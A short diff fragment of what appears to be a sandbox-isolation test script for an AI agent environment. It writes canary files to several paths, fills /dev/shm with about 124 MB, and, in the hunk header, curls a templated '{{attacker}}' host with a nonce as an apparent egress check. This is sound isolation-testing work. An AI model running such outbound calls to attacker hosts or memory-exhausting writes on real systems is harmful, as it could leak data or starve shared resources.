@@ -45,7 +45,7 @@ curl -sSk -m 5 -o /dev/null "https://{{attacker}}/?{{nonce}}" 2>/dev/null && ech
 echo {CANARY} >/home/agent/disk; sync
 echo {CANARY} >/tmp/canary
 echo {CANARY} >/output/canary
-yes {CANARY} | head -c 130000000 >/dev/shm/canary
+yes {CANARY} | dd of=/dev/shm/canary bs=1M count=124 iflag=fullblock 2>/dev/null
 cat /proc/swaps
 exit 7
 """
